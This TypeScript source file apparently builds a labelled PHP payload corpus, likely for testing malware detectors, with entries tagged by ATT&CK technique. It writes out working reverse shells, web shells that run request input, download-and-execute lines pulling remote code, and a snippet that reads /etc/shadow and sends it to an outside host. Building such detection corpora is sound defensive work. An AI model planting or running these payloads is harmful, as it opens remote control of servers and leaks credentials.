import { type Payload, payloads } from '../payload.ts';

/** Behaviours written in PHP; the code stands without its opening tag. */
export const php: readonly Payload[] = [
  ...payloads('php', 'EXE-REVSH', [
    [
      'php-rev-proc',
      'malicious',
      'T1059.004',
      (p) =>
        `$s = fsockopen("${p.ip}", ${p.port});\n$d = array(0 => $s, 1 => $s, 2 => $s);\n$p = proc_open("/bin/sh -i", $d, $pipes);\nproc_close($p);\n`,
    ],
    [
      'php-rev-exec',
      'malicious',
      'T1059.004',
      (p) => `exec("/bin/bash -c 'bash -i >& /dev/tcp/${p.ip}/${p.port} 0>&1'");\n`,
    ],
  ]),
  ...payloads('php', 'EXE-WEBSHELL', [
    ['php-webshell-system', 'malicious', 'T1505.003', () => `if (isset($_GET['c'])) { system($_GET['c']); }\n`],
    ['php-webshell-eval', 'malicious', 'T1505.003', () => `@eval($_POST['x']);\n`],
    [
      'php-webshell-upload',
      'malicious',
      'T1505.003',
      () => `$k = $_COOKIE['k'];\n$f = base64_decode($_REQUEST['d']);\nif ($k === 'a') { echo shell_exec($f); }\n`,
    ],
  ]),
  ...payloads('php', 'EXE-DLEXEC', [
    ['php-dl-eval', 'malicious', 'T1105', (p) => `eval(file_get_contents("http://${p.ip}/s.txt"));\n`],
    ['php-dl-system', 'malicious', 'T1105', (p) => `system("wget -qO- http://${p.ip}/x | sh");\n`],
  ]),
  ...payloads('php', 'CA-FILES', [
    [
      'php-steal',
      'malicious',
      'T1041 T1552.001 T1003.008',
      (p) => `$d = file_get_contents("/etc/shadow");\nfile_get_contents("http://${p.ip}/c?d=" . base64_encode($d));\n`,
    ],
  ]),
];
